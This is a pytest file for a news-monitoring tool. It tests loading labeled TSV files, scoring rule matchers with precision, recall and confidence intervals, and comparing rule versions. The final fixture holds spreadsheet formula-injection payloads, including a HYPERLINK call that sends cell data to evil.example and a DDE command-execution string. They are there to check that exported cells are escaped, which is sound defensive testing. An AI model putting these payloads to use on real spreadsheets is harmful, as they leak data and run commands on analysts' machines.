"""monitor.labeled: reading labeled TSV files and scoring a matcher against them."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from monitor.definitions import compile_term
from monitor.domain import Definitions, Entry, Indicator, Judgement, Outcome, Verdict
from monitor.export import labeled_tsv
from monitor.labeled import (
    LabeledItem,
    Score,
    interval,
    language_of,
    load_labeled,
    parse_labeled,
    part_of,
    score,
    select,
)
from monitor.labeledpairs import compare, mcnemar
from monitor.match import Matcher
from monitor.parse import collapse
from monitor.ruletree import AllNode, AnyNode, Rule, Scope, TermNode
from monitor.store import StoredEntry

LABELED = Path(__file__).resolve().parent / "data" / "labeled"


def _any(*terms: str) -> Rule:
    return Rule(AnyNode(tuple(TermNode(compile_term(t)) for t in terms)))


DEMO = Indicator(
    id="demo",
    group="Demo",
    title="Demo",
    question="Demo?",
    outcomes=(
        Outcome("eased", "Eased", _any("title:visa-free")),
        Outcome("tightened", "Tightened", _any("tighten*")),
    ),
)


@pytest.fixture
def basic() -> Score:
    return score(load_labeled(LABELED / "basic.tsv"), Matcher([DEMO]), [DEMO])


def test_load_reads_every_column() -> None:
    items = load_labeled(LABELED / "basic.tsv")
    assert [i.id for i in items] == ["a1", "a2", "a3", "a4", "a5", "a6"]
    first = items[0]
    assert first.title == "China extends visa-free entry for Koreans"
    assert first.url == "https://example.org/a1"
    assert first.date == "2024-11-22"
    assert dict(first.labels) == {"demo:eased": "y", "demo:tightened": "n"}
    assert first.line == 2
    assert items[1].title == ""


def test_load_unquotes_csv_cells() -> None:
    item = load_labeled(LABELED / "basic.tsv")[3]
    assert item.text == '"Demand is back," an airline said, quoting "strong" bookings.'


def test_entry_is_title_and_text() -> None:
    item = load_labeled(LABELED / "basic.tsv")[1]
    entry = item.entry()
    assert (entry.title, entry.text, entry.link) == (item.title, item.text, item.url)


@pytest.mark.parametrize(
    ("key", "tp", "fp", "fn", "tn"),
    [("demo:eased", 1, 1, 1, 2), ("demo:tightened", 1, 0, 0, 4)],
)
def test_per_outcome_counts(basic: Score, key: str, tp: int, fp: int, fn: int, tn: int) -> None:
    o = basic.outcome(key)
    assert (o.tp, o.fp, o.fn, o.tn) == (tp, fp, fn, tn)


def test_totals_are_micro_averaged(basic: Score) -> None:
    assert (basic.tp, basic.fp, basic.fn) == (2, 1, 1)
    assert basic.precision == pytest.approx(2 / 3)
    assert basic.recall == pytest.approx(2 / 3)
    assert basic.outcome("demo:eased").precision == pytest.approx(0.5)
    assert basic.outcome("demo:tightened").recall == 1.0
    assert basic.items == 6
    assert basic.skipped == 2  # one `?` in each column


def test_misses_and_false_alarms_are_listed(basic: Score) -> None:
    assert [(e.key, e.item_id) for e in basic.misses] == [("demo:eased", "a2")]
    assert [(e.key, e.item_id) for e in basic.false_alarms] == [("demo:eased", "a6")]
    assert basic.false_alarms[0].terms == ("title:visa-free",)


def test_report_shows_table_and_errors(basic: Score) -> None:
    report = basic.report()
    assert "demo:eased" in report and "overall" in report
    assert "0.667" in report
    assert "MISS demo:eased a2" in report
    assert "FALSE ALARM demo:eased a6" in report


def test_unknown_columns_and_empty_labels() -> None:
    items = load_labeled(LABELED / "unknown-column.tsv")
    assert [i.id for i in items] == ["b1", "b2", "b3"]  # the blank line is skipped
    assert items[1].labels["demo:eased"] == "?"
    assert items[2].labels["demo:eased"] == "y"  # labels are case-insensitive
    result = score(items, Matcher([DEMO]), [DEMO])
    assert result.unknown_columns == ("other:thing",)
    assert [o.key for o in result.outcomes] == ["demo:eased"]  # no column labels `tightened`
    assert (result.tp, result.fp, result.fn) == (2, 0, 0)


def test_a_misspelled_column_is_named_with_the_outcome_it_is_near() -> None:
    """A typo in a column's INDICATOR:OUTCOME scored nothing and said only that the column
    names no loaded outcome; the line now says it is not scored and what was meant."""
    header = "id\ttitle\ttext\tdemo:eassed\tother:thing\n"
    items = parse_labeled(header + "a1\tChina eases visas\t\ty\tn\n")

    result = score(items, Matcher([DEMO]), [DEMO])

    assert result.unknown_columns == ("demo:eassed", "other:thing")
    assert (
        "columns naming no loaded outcome, not scored: demo:eassed (did you mean demo:eased?),"
        " other:thing"
    ) in result.report().splitlines()


def test_bad_label_names_file_and_line() -> None:
    with pytest.raises(ValueError, match=r"bad-label\.tsv:3: label 'maybe'"):
        load_labeled(LABELED / "bad-label.tsv")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", ":1: empty file"),
        ("id\ttitle\tdemo:eased\n", ":1: missing column"),
        (  # saved as CSV from a spreadsheet: it said only which columns were missing
            "id,title,text,demo:eased\nx,a,,y\n",
            ":1: missing columns: id, title, text; the header has no tab: the columns are "
            "separated by tabs \\(TSV\\), not commas",
        ),
        ("id\ttitle\ttext\tdemo:eased\nx\ty\n", ":2: 2 fields"),
        (
            "id\ttitle\ttext\tdemo:eased\tdemo:eased\nx\ty\t\ty\tn\n",
            ":1: column named twice: demo:eased",
        ),
        (
            "id\ttitle\ttext\tdemo:eased\nx\ta\t\ty\ny\tb\t\tn\nx\tc\t\tn\n",
            ":4: id 'x' again \\(first at line 2\\)",
        ),
        (  # a quoted cell over two lines: the lines of the file are counted
            'id\ttitle\ttext\tdemo:eased\nx\t"a\nb"\t\ty\nx\tc\t\tn\n',
            ":4: id 'x' again \\(first at line 2\\)",
        ),
    ],
)
def test_parse_errors(text: str, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        parse_labeled(text)


def test_no_predictions_and_no_positives_score_one() -> None:
    item = LabeledItem(id="z", title="Nothing here", text="", labels={"demo:eased": "n"})
    result = score([item], Matcher([DEMO]), [DEMO])
    assert (result.precision, result.recall) == (1.0, 1.0)


def test_the_report_shows_no_rate_where_nothing_was_counted() -> None:
    """An outcome that never fired on rows none of which is labeled `y` read `1.000 1.000`, as a
    perfect rule does: with nothing counted the report says `-` (the interval: 0.00-1.00)."""
    item = LabeledItem(id="z", title="Nothing here", text="", labels={"demo:eased": "n"})
    result = score([item], Matcher([DEMO]), [DEMO])
    row = next(line for line in result.report().splitlines() if line.startswith("demo:eased"))
    assert row.split()[1:] == ["0", "0", "0", "-", "-", "0.00-1.00", "0.00-1.00"]


@pytest.mark.parametrize(
    ("hits", "trials", "low", "high"),
    [
        (8, 10, 0.4902, 0.9433),  # Wilson's interval as textbooks give it (Newcombe 1998)
        (65, 84, 0.6735, 0.8501),
        (0, 10, 0.0, 0.2775),  # no hit still leaves a rate above zero open
        (10, 10, 0.7225, 1.0),
        (0, 0, 0.0, 1.0),  # nothing counted: nothing known
    ],
)
def test_interval_is_wilsons_95_percent_interval(
    hits: int, trials: int, low: float, high: float
) -> None:
    assert interval(hits, trials) == pytest.approx((low, high), abs=1e-4)


def test_fewer_items_leave_a_wider_interval_around_the_same_rate() -> None:
    few, many = interval(3, 4), interval(300, 400)
    assert few[0] < many[0] < 0.75 < many[1] < few[1]


def test_report_and_json_give_each_rate_with_its_interval(basic: Score) -> None:
    eased = basic.outcome("demo:eased")  # 1 tp, 1 fp, 1 fn: 0.5 either way
    assert (
        eased.precision_interval
        == eased.recall_interval
        == pytest.approx((0.0945, 0.9055), abs=1e-4)
    )
    row = next(line for line in basic.report().splitlines() if line.startswith("demo:eased"))
    assert row.split()[-2:] == ["0.09-0.91", "0.09-0.91"]
    assert basic.to_json()["outcomes"]["demo:eased"]["recall_interval"] == [0.0945, 0.9055]


def test_split_is_deterministic_disjoint_and_about_a_third() -> None:
    ids = [f"row-{n}" for n in range(600)]
    items = [LabeledItem(id=i, title="", text="", labels={}) for i in ids]
    tune, scored = select(items, "tune"), select(list(reversed(items)), "score")
    assert {i.id for i in tune}.isdisjoint({i.id for i in scored})
    assert {i.id for i in tune} | {i.id for i in scored} == set(ids)
    assert len(select(items, "all")) == 600
    assert 160 < len(scored) < 240  # about a third
    # the part depends on the id alone: sha256("row-0") and friends, fixed forever
    assert [part_of(f"row-{n}") for n in range(6)] == [part_of(f"row-{n}") for n in range(6)]
    assert part_of("lee-1") == _expected_part("lee-1")


def _expected_part(item_id: str) -> str:
    digest = hashlib.sha256(item_id.encode()).digest()
    return "score" if int.from_bytes(digest[:8], "big") % 3 == 0 else "tune"


def test_select_refuses_an_unknown_part() -> None:
    with pytest.raises(ValueError, match="part 'dev' must be one of tune, score, all"):
        select([], "dev")


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("China extends visa-free entry", "en"),
        ("中 단체관광객 29일부터 무비자 입국", "ko"),  # Hangul wins over Han
        ("韓中経済長官会議を開催へ", "ja"),  # kana with Han is Japanese
        ("中韩签署投资合作备忘录", "zh"),
        ("中韓簽署投資合作備忘錄", "zh"),  # Traditional too
        ("", "en"),
    ],
)
def test_language_is_read_from_the_script(text: str, language: str) -> None:
    assert language_of(text) == language


def test_scores_are_split_by_language() -> None:
    items = [
        LabeledItem(id="e", title="Visa-free entry resumes", text="", labels={"demo:eased": "y"}),
        LabeledItem(id="k", title="무비자 입국 재개", text="", labels={"demo:eased": "y"}),
        LabeledItem(id="j", title="visa-free に", text="", labels={"demo:eased": "y"}),
    ]
    result = score(items, Matcher([DEMO]), [DEMO])
    by_lang = {o.key: (o.tp, o.fn) for o in result.languages}
    assert by_lang == {"en": (1, 0), "ko": (0, 1), "zh": (0, 0), "ja": (1, 0)}
    assert [(e.item_id, e.language) for e in result.misses] == [("k", "ko")]
    assert "MISS demo:eased k (ko)" in result.report()


def test_json_has_overall_outcomes_languages_and_errors(basic: Score) -> None:
    document = json.loads(json.dumps(basic.to_json()))
    assert document["overall"] == {
        "tp": 2, "fp": 1, "fn": 1, "tn": 6, "precision": 0.6667, "recall": 0.6667,
        "precision_interval": [0.2077, 0.9385], "recall_interval": [0.2077, 0.9385],
    }  # fmt: skip
    assert set(document["outcomes"]) == {"demo:eased", "demo:tightened"}
    assert document["languages"]["en"]["outcomes"]["demo:eased"]["tp"] == 1
    assert set(document["languages"]) == {"en", "ko", "zh", "ja"}
    assert document["misses"] == [
        {
            "outcome": "demo:eased",
            "id": "a2",
            "language": "en",
            "title": "",
            "text": "Seoul launches a visa-free pilot for Chinese tour groups.",
            "terms": [],
        }
    ]
    assert document["false_alarms"][0]["terms"] == ["title:visa-free"]
    assert (document["items"], document["skipped"]) == (6, 2)


# ---------------------------------------------------------------- two versions compared

# DEMO's next version: "visa waiver" counts for eased too (a5 is `?`: not counted), and
# tightening is only a title's.
NEXT = Indicator(
    id="demo",
    group="Demo",
    title="Demo",
    question="Demo?",
    outcomes=(
        Outcome("eased", "Eased", _any("visa-free", "visa waiver")),
        Outcome("tightened", "Tightened", _any("title:tighten*")),
        Outcome("new", "New", _any("airline")),
    ),
)


def test_compare_counts_what_each_outcome_gained_and_lost_row_by_row() -> None:
    items = load_labeled(LABELED / "basic.tsv")
    found = compare(items, (Matcher([NEXT]), [NEXT]), (Matcher([DEMO]), [DEMO]))

    eased = found.outcomes[0]
    # a2's visa-free is in its text: NEXT finds it (a match gained); a6's text says visa-free
    # too, labeled n, and it already fired on DEMO's title term: no change there.
    assert (eased.key, eased.gained, eased.lost, eased.alarms_added, eased.alarms_removed) == (
        "demo:eased", 1, 0, 0, 0,
    )  # fmt: skip
    tightened = found.outcomes[1]
    # a3 has "tightened" in its title and "tighten" in its text: still a match.
    assert (tightened.gained, tightened.lost, tightened.alarms_added) == (0, 0, 0)
    assert [(c.kind, c.key, c.item_id) for c in found.changed] == [("gained", "demo:eased", "a2")]
    assert found.only_here == ()  # demo:new has no labeled column
    assert found.overall.better == 1 and found.overall.worse == 0


def test_compare_the_other_way_round_mirrors_it() -> None:
    items = load_labeled(LABELED / "basic.tsv")
    found = compare(items, (Matcher([DEMO]), [DEMO]), (Matcher([NEXT]), [NEXT]))
    assert [(c.kind, c.item_id) for c in found.changed] == [("lost", "a2")]
    assert (found.overall.better, found.overall.worse) == (0, 1)


def test_compare_counts_false_alarms_added_and_removed() -> None:
    loose = Indicator("demo", "Demo", "Demo", "Demo?", (Outcome("eased", "Eased", _any("visa")),))
    items = load_labeled(LABELED / "basic.tsv")
    found = compare(items, (Matcher([loose]), [loose]), (Matcher([DEMO]), [DEMO]))
    # visa fires on a2 (y: gained), a3 (n: alarm added); a4 has no visa; a5 is `?`
    assert [(c.kind, c.item_id) for c in found.changed] == [("gained", "a2"), ("alarm added", "a3")]
    [eased] = found.outcomes
    assert (eased.better, eased.worse, eased.p_value) == (1, 1, 1.0)
    assert found.only_there == ("demo:tightened",)  # labeled, but only the other version has it


@pytest.mark.parametrize(
    ("better", "worse", "p"),
    [
        (0, 0, 1.0),  # nothing changed
        (5, 0, 0.0625),  # 2 * (1/2)^5
        (6, 1, 0.125),  # 2 * (1 + 7) / 2^7
        (3, 3, 1.0),
        (12, 2, 0.0129),  # 2 * (1 + 14 + 91) / 2^14
    ],
)
def test_mcnemar_is_the_exact_two_sided_binomial_test(better: int, worse: int, p: float) -> None:
    assert mcnemar(better, worse) == pytest.approx(p, abs=1e-4)
    assert mcnemar(worse, better) == mcnemar(better, worse)


def test_comparison_report_and_json_without_rows() -> None:
    items = load_labeled(LABELED / "basic.tsv")
    found = compare(items, (Matcher([NEXT]), [NEXT]), (Matcher([DEMO]), [DEMO]))
    assert "GAINED demo:eased a2" in found.report()
    assert "a2" not in found.report(rows=False)
    document = json.loads(json.dumps(found.to_json(rows=False)))
    assert document["overall"] == {
        "matches_gained": 1, "matches_lost": 0, "false_alarms_added": 0,
        "false_alarms_removed": 0, "p_value": 1.0,
    }  # fmt: skip
    assert "changed" not in document
    assert [c["id"] for c in found.to_json()["changed"]] == ["a2"]


# ---------------------------------------------------------------- verdicts exported and scored

SENTENCE = Indicator(
    id="sentence",
    group="Demo",
    title="Demo",
    question="Demo?",
    outcomes=(
        Outcome(
            "eased",
            "Eased",
            Rule(
                AllNode((TermNode(compile_term("china")), TermNode(compile_term("visa-free")))),
                Scope.SENTENCE,
            ),
        ),
    ),
)
MULTILINE = [  # (title, text) from a feed: a line break between paragraphs
    ("Ministry notes", "China\tannounces a new plan\nvisa-free tours resume"),
    ("Two lines", 'China "quotes"\n\n\tvisa-free, in one sentence\nthird'),
]


@pytest.mark.parametrize(("title", "text"), MULTILINE)
def test_an_exported_verdict_is_scored_as_the_live_matcher_read_the_entry(
    title: str, text: str
) -> None:
    """A line break ends a sentence for the matcher (`scope: sentence`, `unless`); the export
    of verdicts wrote the text on one line, so `monitor test --labeled` read two sentences as
    one and scored a rule against a text it never saw: a `yes` on an entry the rule missed
    counted as matched. The export keeps the line breaks (a quoted cell) and the reader too."""
    entry = Entry("feed", "g", "https://example.org/a", title, collapse(text), None, "x.org")
    stored = StoredEntry(7, entry, datetime(2026, 12, 1, tzinfo=UTC))
    verdict = Verdict(7, "sentence", "eased", Judgement.YES, "cli", stored.time)
    exported = labeled_tsv(Definitions((SENTENCE,), ()), [(verdict, stored)])

    (item,) = parse_labeled(exported.text)

    live = [m.outcome_id for m in Matcher([SENTENCE]).match(entry)]
    assert [m.outcome_id for m in Matcher([SENTENCE]).match(item.entry())] == live
    assert (item.title, item.text) == (title, collapse(text))  # as parse stores it


FORMULAS = [  # (title, text) a feed may send; the first cell of each a spreadsheet would run
    ('=HYPERLINK("https://evil.example/?"&B1,"China visa-free")', "+1 China visa-free"),
    ("@SUM(1)", "-2 China visa-free\n=cmd|' /C calc'!A0"),
    ("'=1+1 as written", "'plain, and ''quoted"),
]


@pytest.mark.parametrize(("title", "text"), FORMULAS)
def test_an_exported_headline_is_never_a_formula_in_a_spreadsheet_and_reads_back_as_it_was(
    title: str, text: str
) -> None:
    """An analyst opens the verdicts' TSV in a spreadsheet to label more rows: a headline that
    starts with `=`, `+`, `-` or `@` was a formula there (a link to anywhere, a web request
    carrying the sheet's cells). Such a cell starts with `'`, which the reader takes off."""
    entry = Entry("feed", "g", "=https://example.org/a", title, text, None, "x.org")
    stored = StoredEntry(7, entry, datetime(2026, 12, 1, tzinfo=UTC))
    verdict = Verdict(7, "sentence", "eased", Judgement.YES, "cli", stored.time)

    exported = labeled_tsv(Definitions((SENTENCE,), ()), [(verdict, stored)])

    _header, row = exported.text.splitlines()[:2]
    cells = row.split("\t")
    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], cells
    (item,) = parse_labeled(exported.text)
    assert (item.url, item.title, item.text) == (entry.link, title, text)
